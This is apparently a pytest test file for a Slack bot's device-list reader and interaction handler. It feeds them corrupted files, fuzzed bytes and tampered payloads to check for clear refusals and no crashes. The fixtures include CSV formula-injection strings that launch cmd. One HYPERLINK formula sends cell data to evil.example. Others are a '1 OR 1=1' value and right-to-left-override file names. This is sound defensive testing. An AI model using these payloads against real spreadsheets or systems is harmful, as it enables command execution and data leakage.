"""Broken and hostile input: what operators (and attackers) upload, paste, type and send.

Three layers, each with one promise:

* the device-list reader (``bot.names.read_device_file``) answers every file in
  ``tests/data/hostile/`` (plus a few generated here because they are megabytes) with a
  :class:`DeviceListError` whose message says what is wrong, or with a list whose rejected lines say
  why; nothing else ever escapes;
* pasted text and ``/devices`` arguments, fuzzed: same promise, and over HTTP every command is
  answered with 200;
* signed interactions whose JSON is not what Slack sends (fields missing, values tampered, unknown
  actions, private_metadata that the bot did not write) never reach Slack as an HTTP 500, and the
  bot keeps working afterwards.

The Slack half shares one bot per module (``bot_under_fire``): throwing garbage at the same running
process is the point, and each test ends by showing that a real command and a real click still work.
"""

from __future__ import annotations

import copy
import time
from dataclasses import dataclass
from datetime import datetime, timezone
from pathlib import Path
from typing import Any
from wsgiref.simple_server import WSGIServer

import pytest
from support import wait_until
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from bot.domain import FINAL_STATES, State

from bot.store.sqlite import SqliteStore
from bot.clock import ManualClock
from bot.config import Settings
from bot.standins.emulator import Emulator
from bot.jobs import InlineJobs
from bot.names import Device, DeviceList, DeviceListError, parse_pasted, read_device_file, validate_name, validate_nickname
from bot.slack import blocks
from bot.server import serve_locally
from bot.slack.app import Bot, create_app
from bot.standins.slack import (
    FakeSlack,
    Workspace,
    block_actions_payload,
    interaction_body,
    plain_text_value,
    view_submission_payload,
)

CORPUS = Path(__file__).parent / "data" / "hostile"
MB = 1024 * 1024

NAME_RULE = "use letters, digits and - _ @ . :"
NICK_RULE = "in a nickname: use Chinese or Japanese characters, letters, digits and _"
BINARY = ("is a binary file, not a device list", "upload a CSV or a text file")
NOT_UTF8 = ("is not UTF-8 text", "CSV UTF-8")
WORKBOOK = ("looks like an Excel workbook or a zip file", "save it as CSV")
HTML = ("is an HTML page, not a device list",)
PDF = ("is a PDF document, not a device list", "export the list as CSV")


def read(name: str, **options: Any) -> DeviceList:
    return read_device_file((CORPUS / name).read_bytes(), filename=name, **options)


def chunked(data: bytes, size: int) -> list[bytes]:
    return [data[i : i + size] for i in range(0, len(data), size)]


# --- the corpus: files refused whole --------------------------------------------------------------

#: file -> words its refusal must hold. It names the file, or lists the first lines that were refused.
REFUSED: dict[str, tuple[str, ...]] = {
    "garbage.bin": BINARY,
    "devices_in_archive.zip": WORKBOOK,
    "devices.xlsx": WORKBOOK,
    "old_excel_renamed.csv": ("looks like an old Excel workbook (.xls)", "save it as CSV"),
    "devices_printed.pdf": PDF,
    # A PDF whose first kilobytes are text: known by its first bytes all the same.
    "pdf_text_header_only.pdf": PDF,
    "screenshot_of_the_list.png": BINARY,
    "devices.csv.gz": BINARY,
    "slack_sign_in_page.csv": HTML,
    "slack_error_page.txt": HTML,  # blank lines, then <html> without a doctype
    "xhtml_error_page.csv": HTML,  # an XML declaration before the doctype
    "nul_in_the_middle.txt": BINARY,
    "control_characters.txt": BINARY,  # BEL and an ANSI colour escape
    "utf8_then_latin1.csv": ("line 3 of", *NOT_UTF8),
    "utf16_truncated.txt": ("line 2 of", "is not UTF-16 text"),
    "utf16_lone_surrogate.txt": ("line 2 of", "is not UTF-16 text"),
    "lone_utf8_bom.csv": ("is empty",),
    "lone_utf16_bom.txt": ("is empty",),
    "only_whitespace.txt": ("is empty",),
    "only_commas.csv": ("has no DeviceName column",),
    "no_devicename_column.csv": ("has no DeviceName column", "'Serial', 'Nickname', 'Location'", 'titled "DeviceName"'),
    "slack_api_error.json": ("has no DeviceName column", "'{\"ok\":false'"),
    "header_only_with_empty_rows.csv": ("has a header but no device names",),
    "all_comments.txt": ("has no device names, only comments",),
    "emoji.csv": ("no valid device names (3 rejected", "'😀' is not allowed in a nickname", "'🚀' is not allowed"),
    # A million-comma header's little sibling: past the columns a device list may have.
    "wide_header.csv": ("has 70,001 columns; a device list may have 65,536 at most", "delete the empty ones"),
    "excel_2003_xml.xml": ("no valid device names (7 rejected", "line 1: '<?xml", "'<', '?', a space and 3 more are not allowed"),
}


@pytest.mark.parametrize("name", sorted(REFUSED))
def test_a_file_that_is_not_a_device_list_is_refused_with_what_is_wrong(name):
    for data in ((CORPUS / name).read_bytes(), iter(chunked((CORPUS / name).read_bytes(), 7))):
        with pytest.raises(DeviceListError) as refused:
            read_device_file(data, filename=name)
        message = refused.value.message
        assert name in message or message.startswith("no valid device names (")  # that one lists the lines
        for words in REFUSED[name]:
            assert words in message, f"{name}: {words!r} not in {message!r}"


# --- the corpus: files read, every bad line explained ---------------------------------------------

#: file -> (devices kept, [(line, value, words of the reason)]).
READ: dict[str, tuple[list[tuple[str, str | None]], list[tuple[int, str, str]]]] = {
    "formula_injection.csv": (
        # A name may start with - or @ (the platform allows both); nothing else here is a name.
        [("-inj-0005", "Pump_7"), ("@inj-0006", None), ("inj-0007", "Pump_8")],
        [
            (2, "=cmd|' /C calc'!A0", f"'=', '|', \"'\" and 3 more are not allowed: {NAME_RULE}"),
            (3, "+1+1", f"'+' is not allowed: {NAME_RULE}"),
            (4, "-2+3", f"'+' is not allowed: {NAME_RULE}"),
            (5, "@SUM(1)", f"'(' and ')' are not allowed: {NAME_RULE}"),
            (6, "=1+1", f"'=' and '+' are not allowed: {NAME_RULE}"),  # tab-prefixed: the tab is trimmed
            (7, '=HYPERLINK("http://evil.example/?"&A1;"open")', "'=', '(', '\"' and 5 more are not allowed"),
            (8, "inj-0001", f"'=', '|', \"'\" and 3 more are not allowed {NICK_RULE}"),  # under its name
            (9, "inj-0002", f"'+' is not allowed {NICK_RULE}"),
            (10, "inj-0003", f"'-' and '+' are not allowed {NICK_RULE}"),
            (11, "inj-0004", f"'@', '(' and ')' are not allowed {NICK_RULE}"),
        ],
    ),
    "formula_after_cr.txt": (  # CR-prefixed formulas: a lone CR ends a line
        [("cr-0001", None), ("cr-0002", None)],
        [(2, "=1+1", "'=' and '+' are not allowed"), (3, "+cmd|' /C notepad'!A0", "'+', '|', \"'\" and 3 more are not allowed")],
    ),
    "rtl_override.txt": (
        [("rtl-0001", None)],
        [
            (2, "exe.\u202etxt-0002", f"an invisible character (U+202E) is not allowed: {NAME_RULE}"),
            (3, "rtl\u202e-0003", "an invisible character (U+202E) is not allowed"),
        ],
    ),
    "zero_width.txt": (
        [("zw-0001", None)],
        [
            (2, "zw\u200b-0002", "an invisible character (U+200B)"),
            (3, "\u2060zw-0003", "an invisible character (U+2060)"),
            (4, "zw-0004\ufeff", "an invisible character (U+FEFF)"),
            (5, "zw-0001\u200d", "an invisible character (U+200D)"),  # not a repeat of line 1: it is not the same name
        ],
    ),
    "nickname_hostile.csv": (
        [("nk-0005", "Pump_5")],
        [
            (2, "nk-0001", f"an invisible character (U+202E) is not allowed {NICK_RULE}"),
            (3, "nk-0002", "an invisible character (U+200B) is not allowed in a nickname"),
            (4, "nk-0003", "a space is not allowed in a nickname"),
            (5, "nk-0004", "full-width characters are not allowed in a nickname ('Ｐ', 'ｕ', 'ｍ' and 1 more): type them half-width"),
        ],
    ),
    "quoted_fields.csv": (
        [("q-0001", "Pump_1")],
        [
            (3, 'q-"0002', f"'\"' is not allowed: {NAME_RULE}"),
            (4, "'q-0003'", "\"'\" is not allowed"),
            (5, "q-0004", "a space and '\"' are not allowed in a nickname"),
        ],
    ),
    "crlf_cr_mix.txt": (  # CRLF, CR, LF, and an empty CR line: line numbers as an editor counts them
        [("mix-0001", None), ("mix-0002", None), ("mix-0003", None), ("mix-0004", None), ("mix-0006", None)],
        [(7, "bad#0005", "'#' is not allowed")],
    ),
    "utf16le_no_bom.txt": (
        [("u16-0001", None), ("u16-0002", None)],
        [(3, "bad name", "a space is not allowed")],
    ),
    # The last byte is DOS's end-of-file mark: it gets through as text and is refused as a name.
    "dos_eof_marker.txt": (
        [("eof-0001", None), ("eof-0002", None)],
        [(3, "\x1a", "an invisible character (U+001A) is not allowed")],
    ),
    # Excel's Windows-1252: read as such, and the curly quotes around a name are not part of one.
    "windows1252_smart_quotes.csv": (
        [("win-0001", "Pump_1")],
        [(3, "\u201cwin-0002\u201d", f"'\u201c' and '\u201d' are not allowed: {NAME_RULE}")],
    ),
    # A line of 200,000 quotes: one bad line, read in linear time, and the row after it still counts.
    "line_of_quotes.csv": ([("quo-0001", "Pump_1")], [(2, '"' * 79 + "…", "'\"' is not allowed: " + NAME_RULE)]),
    # An ANSI escape past the first 4 KB: one bad line, whatever the chunks (not a binary file).
    "control_escape_late.txt": (
        [(f"late-{i:04d}", None) for i in range(501)],
        [(451, "late-\x1b[31mred", f"an invisible character (U+001B) and '[' are not allowed: {NAME_RULE}")],
    ),
    # Quotes opened and never closed on their line: each pair of lines is one row broken in two.
    "unbalanced_quotes.csv": (
        [("ub-9999", "Pump_9")],
        [
            (n, f"ub-{n - 2:04d},Pump_{n - 2}\nub-{n - 1:04d}", f"a line break inside quotes (lines {n} to {n + 1})")
            for n in range(2, 302, 2)
        ],
    ),
    "many_tiny_columns.csv": ([(f"tiny-{i:04d}", None) for i in range(5)], []),
    "huge_field.csv": ([("huge-0001", None), ("huge-0002", None)], []),
    "separator_lines.csv": (
        [("sep-0001", "Pump_1")],
        [(n, (",;\t" * 20_000)[:79] + "…", "no DeviceName on this line") for n in range(2, 7)],
    ),
    # Excel on Chinese Windows: GB18030 (GBK), read as such.
    "gb18030_nicknames.csv": (
        [(f"gb-{i:04d}", f"温度传感器{i}号") for i in range(1, 6)],
        [(7, "gb-0006", "a space is not allowed in a nickname")],
    ),
    "cp1252_accents.csv": (
        [("capteur-0001", "Pompe_1")],
        [(3, "capteur-0002", "'é' is not allowed in a nickname"), (4, "sonde-°3", "'°' is not allowed")],
    ),
    # Markup, links and mentions are values like any other here; Slack shows them inert.
    "backtick_url.txt": (
        [("bt-0001", None)],
        [
            (2, "x` https://evil.example/reset-password `y", "'`', a space and '/' are not allowed"),
            (3, "<!channel> @here <@U012ABCDEF>", "'<', '!', '>' and 1 more are not allowed"),
        ],
    ),
    # Two DeviceName columns: the first is read, the second ignored (an ambiguous file; see the report).
    "duplicate_devicename_columns.csv": ([("dup-0001", "Pump_1"), ("dup-0002", "Pump_2")], []),
}

#: Files whose right reading is an open bug (see the xfail tests below); kept out of READ and REFUSED.
KNOWN_BAD = {"quoted_newline_in_name.csv", "quoted_newline_in_nickname.csv", "utf16be_no_bom.csv"}


@pytest.mark.parametrize("name", sorted(READ))
def test_a_hostile_file_is_read_with_every_bad_line_explained(name):
    devices, rejected = READ[name]
    data = (CORPUS / name).read_bytes()
    for result in (read(name), read_device_file(iter(chunked(data, 5)), filename=name)):
        assert [(d.name, d.nickname) for d in result.devices] == devices
        assert [(r.line, r.value) for r in result.rejected] == [(line, value) for line, value, _ in rejected]
        for got, (_, _, words) in zip(result.rejected, rejected):
            assert words in got.reason, f"{name} line {got.line}: {words!r} not in {got.reason!r}"
        assert result.rejected_count == len(rejected)


#: How Slack's download, a disk and a test may hand the bytes over.
CUTS = (1, 7, 1000, 4096, 65_535, 65_536, 1 << 20)


@pytest.mark.parametrize("name", sorted(set(READ) | set(REFUSED)))
def test_every_file_gets_the_same_answer_however_its_bytes_arrive(name):
    data = (CORPUS / name).read_bytes()

    def answer(source):
        try:
            result = read_device_file(source, filename=name)
        except DeviceListError as refused:
            return refused.message
        return result.devices, result.rejected, result.rejected_count, result.lines_read, result.encoding

    whole = answer(data)
    for cut in CUTS:
        assert answer(iter(chunked(data, cut))) == whole, f"{name} in chunks of {cut}"


def test_the_corpus_has_no_untested_file():
    files = {p.name for p in CORPUS.iterdir()}
    assert len(files) >= 30
    assert files == set(REFUSED) | set(READ) | KNOWN_BAD
    assert not set(REFUSED) & set(READ)


# --- known bugs, shown -------------------------------------------------------------------------------


def test_a_quoted_name_broken_over_two_lines_is_not_registered_as_its_first_half():
    result = read("quoted_newline_in_name.csv")
    assert "nlnm" not in [d.name for d in result.devices]  # the operator wrote "nlnm<newline>0001"
    assert result.devices == [Device("nlnm-0002", "Pump_2")]


def test_a_quoted_nickname_broken_over_two_lines_is_not_registered_cut():
    result = read("quoted_newline_in_nickname.csv")
    assert Device("nl-0001", "Pump") not in result.devices  # the operator wrote "Pump<newline>Hall_3"
    assert Device("nl-0002", "Pump_2") in result.devices


def test_utf16_without_a_bom_is_read_even_with_japanese_nicknames():
    result = read("utf16be_no_bom.csv")
    assert result.devices == [Device("u16-0003", "ライン_1")]


def test_empty_spreadsheet_rows_before_the_header_are_blank_lines():
    with pytest.raises(DeviceListError) as refused:
        read("only_commas.csv")
    assert "(the first line has )" not in refused.value.message
    result = read_device_file(b",,\r\n,,\r\nDeviceName,DeviceNickname,Site\r\nrow-0001,Pump_1,Hall 3\r\n")
    assert result.devices == [Device("row-0001", "Pump_1")]


# --- generated: too big to keep in the repository -------------------------------------------------


def test_ten_megabytes_on_one_line_is_over_the_cap_however_it_arrives():
    data = b"a" * (10 * MB + 1)
    for source in (data, iter(chunked(data, 64 * 1024))):
        with pytest.raises(DeviceListError) as refused:
            read_device_file(source, filename="huge.csv")
        assert refused.value.message == "huge.csv is larger than 10 MB: split the list into smaller files"


def test_an_endless_line_is_cut_off_at_the_cap_without_reading_it_all():
    served = 0

    def endless():
        nonlocal served
        while True:
            served += 1
            yield b"x" * (256 * 1024)

    with pytest.raises(DeviceListError) as refused:
        read_device_file(endless(), filename="stream.csv", max_bytes=2 * MB)
    assert "larger than 2 MB" in refused.value.message
    assert served <= 9  # stopped at the cap, not at the end of the stream


def test_nine_megabytes_on_one_line_under_the_cap_is_read():
    # A notes column pasted from somewhere: one row 9 MB long. The names around it still count.
    data = b"DeviceName,Notes\nlong-0001," + b"z" * (9 * MB) + b"\nlong-0002,short\n"
    result = read_device_file(data, filename="notes.csv")
    assert result.devices == [Device("long-0001"), Device("long-0002")]
    assert result.rejected == [] and result.lines_read == 3


def test_a_one_megabyte_name_is_refused_with_its_length_and_shown_cut():
    data = b"ok-00001\n" + b"m" * MB + b"\nok-00002\n"
    result = read_device_file(data, filename="long.txt")
    assert result.devices == [Device("ok-00001"), Device("ok-00002")]
    (rejected,) = result.rejected
    assert rejected.line == 2 and rejected.reason == "too long: 1048576 characters, at most 32"
    assert len(rejected.value) == 80 and rejected.value.endswith("…")


def test_a_one_megabyte_quoted_cell_does_not_trip_the_csv_module():
    data = b'DeviceName,DeviceNickname\n"' + b"q" * MB + b'",x\nbig-0001,Pump_1\n'
    result = read_device_file(data, filename="quoted.csv")
    assert result.devices == [Device("big-0001", "Pump_1")]
    assert [(r.line, r.reason) for r in result.rejected] == [(2, "'\"' is not allowed: " + NAME_RULE)]


def test_twenty_thousand_columns_find_the_devicename_column():
    header = ",".join(f"c{i}" for i in range(20_000)) + ",DeviceName,DeviceNickname"
    rows = [",".join(["x"] * 20_000 + [f"wide-{i:04d}", f"Pump_{i}"]) for i in range(1, 4)]
    result = read_device_file(("\n".join([header, *rows]) + "\n").encode(), filename="wide.csv")
    assert result.devices == [Device(f"wide-{i:04d}", f"Pump_{i}") for i in range(1, 4)]


def test_a_control_character_past_the_first_chunk_is_one_bad_line_not_a_binary_file():
    names = b"".join(b"far-%05d\n" % i for i in range(8000))  # 72 KB: past the head that is sniffed
    result = read_device_file(names + b"far-\x07bell\n", filename="far.txt")
    assert len(result.devices) == 8000
    assert [(r.line, r.reason) for r in result.rejected] == [(8001, f"an invisible character (U+0007) is not allowed: {NAME_RULE}")]


# --- fuzzing the reader and the paste box ----------------------------------------------------------

#: Pieces of what breaks readers: magic numbers, BOMs, markup, quotes, delimiters, line ends,
#: control and invisible characters, bytes that are not UTF-8, header words, formulas.
FRAGMENTS = [
    b"PK\x03\x04", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", b"%PDF-1.7\n", b"\x89PNG\r\n\x1a\n", b"\x1f\x8b\x08",
    b"\xef\xbb\xbf", b"\xff\xfe", b"\xfe\xff", b"<!DOCTYPE html>", b"<html>", b"</td>",
    b'"', b'""', b"'", b",", b";", b"\t", b"\n", b"\r", b"\r\n", b" ", b"#", b"\x00", b"\x07", b"\x1a", b"\x0c",
    b"\x80", b"\xc3", b"\xe9", b"\xed\xa0\x80", b"\xf0\x9f\x98", "\u202e".encode(), "\u200b".encode(),
    "温度".encode(), "ﾗｲﾝ".encode(), "😀".encode(), b"DeviceName", b"devicename", b"DeviceNickname", b"Nickname",
    b"name", b"=cmd|' /C calc'!A0", b"+1+1", b"-2+3", b"@SUM(1)", b"dev-0001", b"dev-0002", b"Pump_1", b"a" * 40,
]
hostile_bytes = st.lists(st.one_of(st.sampled_from(FRAGMENTS), st.binary(max_size=8)), max_size=60).map(b"".join)


@settings(max_examples=300, deadline=None)
@given(hostile_bytes, st.sampled_from([1, 3, 4096, 1 << 16]))
def test_whatever_bytes_arrive_only_a_device_list_error_escapes(data, cut):
    try:
        result = read_device_file(iter(chunked(data, cut)), filename="fuzz.csv")
    except DeviceListError as refused:
        assert refused.message.strip()
        return
    assert result.devices and len({d.name for d in result.devices}) == len(result.devices)
    assert all(validate_name(d.name) is None for d in result.devices)
    assert all(d.nickname is None or validate_nickname(d.nickname) is None for d in result.devices)
    assert all(r.reason and 1 <= r.line <= result.lines_read for r in result.rejected)


@settings(max_examples=300, deadline=None)
@given(
    st.one_of(
        st.text(max_size=300),
        st.lists(st.sampled_from([f.decode("utf-8", "replace") for f in FRAGMENTS] + ["，", "；", "、", "\u3000"]), max_size=40).map("".join),
    )
)
def test_whatever_is_pasted_only_a_device_list_error_escapes(text):
    try:
        result = parse_pasted(text)
    except DeviceListError as refused:
        assert refused.message.strip()
        return
    assert result.devices and all(validate_name(d.name) is None for d in result.devices)
    assert len({d.name for d in result.devices}) == len(result.devices)
    for r in result.rejected:
        assert r.reason and r.where and (r.line is None or r.line >= 1) and (r.item is None or r.item >= 1)


# --- the Slack app under fire --------------------------------------------------------------------

SIGNING_SECRET = "test-signing-secret-0123456789"
PRODUCT = "a1TestProd1"
OPS = "C0OPS"
ALICE, BOB, DAVE = "U0ALICE", "U0BOB", "U0DAVE"
GENERIC_ERROR = "error on iotreg's side"


@dataclass
class UnderFire:
    """One running bot (real Bolt app over HTTP, fake Slack, emulator) and a request awaiting approval."""

    emulator: Emulator
    fake: FakeSlack
    bot: Bot
    jobs: InlineJobs
    server: WSGIServer
    ws: Workspace
    anchor: dict
    view: dict

    @property
    def store(self) -> SqliteStore:
        return self.bot.workflow.store

    def post(self, payload: Any) -> Any:
        """POST a signed interaction: a payload dict, or a raw form body."""
        body = payload if isinstance(payload, str) else interaction_body(payload)
        return self.ws.post(body)

    def known(self, user: str) -> None:
        if not self.fake.has_user(user):
            self.fake.add_user(user)

    def click_payload(self, user: str = DAVE, action_id: str = blocks.APPROVE, value: str | None = "1", team: str = "T0TEST") -> dict:
        """A block_actions payload as Slack sends it for a click on the request's message."""
        self.known(user)
        action: dict[str, Any] = {"action_id": action_id, "block_id": "actions", "type": "button", "action_ts": f"{time.time():.6f}",
                                  "text": {"type": "plain_text", "text": "Approve"}}  # fmt: skip
        if value is not None:
            action["value"] = value
        return block_actions_payload(
            user={"id": user, "username": user.lower(), "name": user.lower(), "team_id": team},
            team={"id": team, "domain": "iotreg-test"},
            api_app_id=self.fake.app_id,
            trigger_id=self.fake.issue_trigger(user),
            action=action,
            container={"type": "message", "message_ts": self.anchor["ts"], "channel_id": OPS, "is_ephemeral": False},
            channel={"id": OPS, "name": "iot-ops"},
            message=self.anchor,
            response_url=self.fake.response_url(channel=OPS, user=user, message_ts=self.anchor["ts"], kind="actions"),
        )

    def submission(self, user: str = ALICE, names: str = "fire-0100") -> dict:
        """A view_submission of the upload modal with pasted names, as Slack sends it."""
        self.known(user)
        return view_submission_payload(
            user={"id": user, "username": user.lower(), "name": user.lower(), "team_id": "T0TEST"},
            team={"id": "T0TEST", "domain": "iotreg-test"},
            api_app_id=self.fake.app_id,
            trigger_id=self.fake.issue_trigger(user),
            view=copy.deepcopy(self.view),
            values={blocks.NAMES_BLOCK: {blocks.NAMES_BLOCK: plain_text_value(names)}},
        )

    def told(self, user: str, after: int) -> str:
        """The next ephemeral message ``user`` gets in the channel after the first ``after``."""
        shown = self.fake.wait_for(lambda: self.fake.ephemeral(OPS, user)[after:])
        return shown[0]["text"]

    def assert_still_working(self) -> None:
        """A real command is answered, and a real click is checked and answered."""
        answer = self.ws.command(DAVE, OPS, "help")
        assert answer.status_code == 200 and "/devices register" in answer.text
        before = len(self.fake.ephemeral(OPS, DAVE))
        assert self.ws.click(DAVE, self.anchor, blocks.APPROVE).status_code == 200
        assert "not one of the approvers" in self.told(DAVE, before)
        assert self.store.get(1).state == State.AWAITING_APPROVAL


@pytest.fixture(scope="module")
def bot_under_fire(tmp_path_factory):
    clock = ManualClock(datetime.now(timezone.utc))
    emulator = Emulator(access_key_id="test-key-id", access_key_secret="test-key-secret", product_keys=(PRODUCT,),
                        check_seconds=2.0, create_seconds=3.0, seed=20260105, clock=clock).start()  # fmt: skip
    fake = FakeSlack(bot_token="xoxb-test-token").start()
    fake.add_channel(OPS, "iot-ops")
    env = {
        **emulator.env(),
        "SLACK_BOT_TOKEN": fake.bot_token,
        "SLACK_SIGNING_SECRET": SIGNING_SECRET,
        "SLACK_API_URL": fake.api_url,
        "IOTREG_DB": str(tmp_path_factory.mktemp("fire") / "iotreg.db"),
        "IOTREG_APPROVERS": BOB,
        "IOTREG_POLL_INTERVAL": "1",
        "IOTREG_APPROVAL_TTL": "1h",
        "IOTREG_WORKERS": "4",
    }
    bot = create_app(Settings.from_env(env), clock=clock, jobs=lambda steps: InlineJobs(clock, steps))
    jobs = bot.jobs
    bot.start()
    server = serve_locally(bot.wsgi())
    ws = Workspace(fake, SIGNING_SECRET, app_url=f"http://127.0.0.1:{server.server_port}/slack/events")

    assert ws.command(ALICE, OPS, f"register {PRODUCT} fire-0001 fire-0002").status_code == 200
    assert wait_until(lambda: bot.workflow.store.get(1) is not None)
    jobs.run_until(lambda: bot.workflow.store.get(1).state == State.AWAITING_APPROVAL)
    jobs.run_due()
    ts = bot.workflow.store.get(1).origin_data.get("thread_ts")
    anchor = next(m for m in fake.messages(OPS) if m["ts"] == ts)
    ws.command(ALICE, OPS, f"register {PRODUCT}")
    view = fake.wait_for(lambda: next(iter(fake.views.values()), None))
    yield UnderFire(emulator, fake, bot, jobs, server, ws, anchor, view)
    server.shutdown()
    server.server_close()
    bot.app.listener_runner.listener_executor.shutdown(wait=True)
    bot.stop()
    fake.stop()
    emulator.stop()


def answered(fire: UnderFire, text: str) -> str:
    """Send ``/devices text`` as DAVE; what he is told: the ack's text, a response_url post, or a modal."""
    responses, opened = len(fire.fake.responses), len(fire.fake.calls_to("views.open"))
    answer = fire.ws.command(DAVE, OPS, text)
    assert answer.status_code == 200, f"/devices {text!r} -> HTTP {answer.status_code}"
    if answer.content.strip():  # the ack's text: JSON, or the error handler's plain text
        return answer.json()["text"] if answer.content.startswith(b"{") else answer.text
    got = fire.fake.wait_for(lambda: fire.fake.responses[responses:] or fire.fake.calls_to("views.open")[opened:])
    return got[0].payload["text"] if hasattr(got[0], "url") else "(a modal opened)"


VERBS = ["register", f"register {PRODUCT}", f"register {PRODUCT} --count", "status", "cancel", "list", "help", "STATUS", "status #"]


@settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(st.one_of(st.text(max_size=200), st.tuples(st.sampled_from(VERBS), st.text(max_size=60)).map(" ".join)))
def test_any_devices_command_gets_an_answer_and_never_a_500(bot_under_fire, text):
    assert answered(bot_under_fire, text).strip()


def test_garbage_commands_leave_the_bot_working(bot_under_fire):
    for text in ["register \x00", "register a1TestProd1 '", "status \"", 'register a1TestProd1 "unclosed', "x" * 3000]:
        assert answered(bot_under_fire, text).strip()
    bot_under_fire.assert_still_working()


@pytest.mark.parametrize("text", ["status ²", "cancel ²", "status 99999999999999999999", f"register {PRODUCT} --count ²"])
def test_a_number_that_is_not_one_is_answered_as_such(bot_under_fire, text):
    assert GENERIC_ERROR not in answered(bot_under_fire, text)


# --- interactions whose JSON is not what Slack sends -------------------------------------------------


def without(payload: dict, *path: str) -> dict:
    target = payload
    for key in path[:-1]:
        target = target[key]
    del target[path[-1]]
    return payload


def test_a_click_without_a_user_is_acknowledged_and_changes_nothing(bot_under_fire):
    fire = bot_under_fire
    answer = fire.post(without(fire.click_payload(BOB), "user"))  # BOB's click, had it named him, would approve
    assert answer.status_code == 200
    assert fire.store.get(1).state == State.AWAITING_APPROVAL
    fire.assert_still_working()


def test_an_interaction_without_actions_is_refused_as_unhandled(bot_under_fire):
    answer = bot_under_fire.post(without(bot_under_fire.click_payload(BOB), "actions"))
    assert answer.status_code == 404  # Bolt's "unhandled request": no listener was run
    bot_under_fire.assert_still_working()


def test_an_unknown_action_id_is_refused_as_unhandled(bot_under_fire):
    answer = bot_under_fire.post(bot_under_fire.click_payload(BOB, action_id="approve_everything"))
    assert answer.status_code == 404
    assert bot_under_fire.store.get(1).state == State.AWAITING_APPROVAL
    bot_under_fire.assert_still_working()


@pytest.mark.parametrize("body", ["", "foo=bar", interaction_body({"type": "nonsense"}), interaction_body({})])
def test_a_signed_body_that_is_no_interaction_is_refused_without_a_500(bot_under_fire, body):
    assert bot_under_fire.post(body).status_code == 404
    bot_under_fire.assert_still_working()


@pytest.mark.parametrize("case", ["payload is not JSON", "payload is empty", "actions is empty"])
def test_a_signed_payload_bolt_cannot_parse_is_not_answered_with_a_500(bot_under_fire, case):
    fire = bot_under_fire
    if case == "actions is empty":
        answer = fire.post({**fire.click_payload(), "actions": []})
    else:
        answer = fire.post("payload=%7Bnot+json" if case == "payload is not JSON" else "payload=")
    status = answer.status_code
    fire.assert_still_working()  # it does: the 500 is the only harm
    assert status < 500


@pytest.mark.parametrize("value", ["abc", "", "-1", "1.5", "#1", "1 OR 1=1", None])
def test_a_button_value_that_is_no_request_number_is_explained(bot_under_fire, value):
    fire = bot_under_fire
    before = len(fire.fake.ephemeral(OPS, BOB))
    assert fire.post(fire.click_payload(BOB, value=value)).status_code == 200
    assert fire.told(BOB, before) == "This button is not tied to a registration request."
    assert fire.store.get(1).state == State.AWAITING_APPROVAL
    fire.assert_still_working()


@pytest.mark.parametrize("value", ["²", "99999999999999999999"])
def test_a_tampered_number_in_a_button_is_explained(bot_under_fire, value):
    fire = bot_under_fire
    before = len(fire.fake.ephemeral(OPS, DAVE))
    assert fire.post(fire.click_payload(DAVE, value=value)).status_code == 200
    assert fire.told(DAVE, before) == "This button is not tied to a registration request."


def test_a_click_whose_user_is_not_an_object_is_acknowledged(bot_under_fire):
    fire = bot_under_fire
    assert fire.post({**fire.click_payload(BOB), "user": BOB}).status_code == 200
    assert fire.store.get(1).state == State.AWAITING_APPROVAL
    fire.assert_still_working()


# --- the modal's submission ------------------------------------------------------------------------


def lost_context(answer) -> bool:
    """The modal stays open and says to start again (and no plain-text body Slack cannot show)."""
    return answer.status_code == 200 and answer.content.startswith(b"{") and answer.json() == {
        "response_action": "errors",
        "errors": {blocks.NAMES_BLOCK: "This form has lost its context; run /devices register again."},
    }


def test_a_submission_without_state_asks_for_the_names(bot_under_fire):
    fire = bot_under_fire
    answer = fire.post(without(fire.submission(), "view", "state"))
    assert answer.status_code == 200 and answer.json()["response_action"] == "errors"
    assert "Upload a CSV or TXT file" in answer.json()["errors"][blocks.NAMES_BLOCK]
    fire.assert_still_working()


@pytest.mark.parametrize("metadata", ["", "{}", "garbage{", '{"channel": "C0OPS"}', '{"product_key": "a1TestProd1"}', "\x00"])
def test_a_submission_whose_metadata_is_garbage_is_told_to_start_again(bot_under_fire, metadata):
    fire = bot_under_fire
    payload = fire.submission()
    payload["view"]["private_metadata"] = metadata
    requests_before = len(fire.store.requests(limit=1000))
    assert lost_context(fire.post(payload))
    assert len(fire.store.requests(limit=1000)) == requests_before
    fire.assert_still_working()


@pytest.mark.parametrize("metadata", ["[1, 2]", "null", "42", '"C0OPS"'])
def test_a_submission_whose_metadata_is_not_an_object_is_told_to_start_again(bot_under_fire, metadata):
    payload = bot_under_fire.submission()
    payload["view"]["private_metadata"] = metadata
    assert lost_context(bot_under_fire.post(payload))


def test_a_submission_without_a_user_is_not_a_500(bot_under_fire):
    fire = bot_under_fire
    requests_before = len(fire.store.requests(limit=1000))
    assert fire.post(without(fire.submission(), "user")).status_code == 200
    assert len(fire.store.requests(limit=1000)) == requests_before
    fire.assert_still_working()


def test_a_submission_without_a_view_is_refused_as_unhandled(bot_under_fire):
    assert bot_under_fire.post(without(bot_under_fire.submission(), "view")).status_code == 404
    bot_under_fire.assert_still_working()


def test_after_all_that_a_real_approval_still_registers(bot_under_fire):
    fire = bot_under_fire
    assert fire.ws.click(BOB, fire.anchor, blocks.APPROVE).status_code == 200
    assert wait_until(lambda: fire.store.get(1).state != State.AWAITING_APPROVAL)
    fire.jobs.run_until(lambda: fire.store.get(1).state in FINAL_STATES)
    assert fire.store.get(1).state == State.DONE
    assert sorted(d.device_name for d in fire.emulator.backend.devices(PRODUCT)) == ["fire-0001", "fire-0002"]
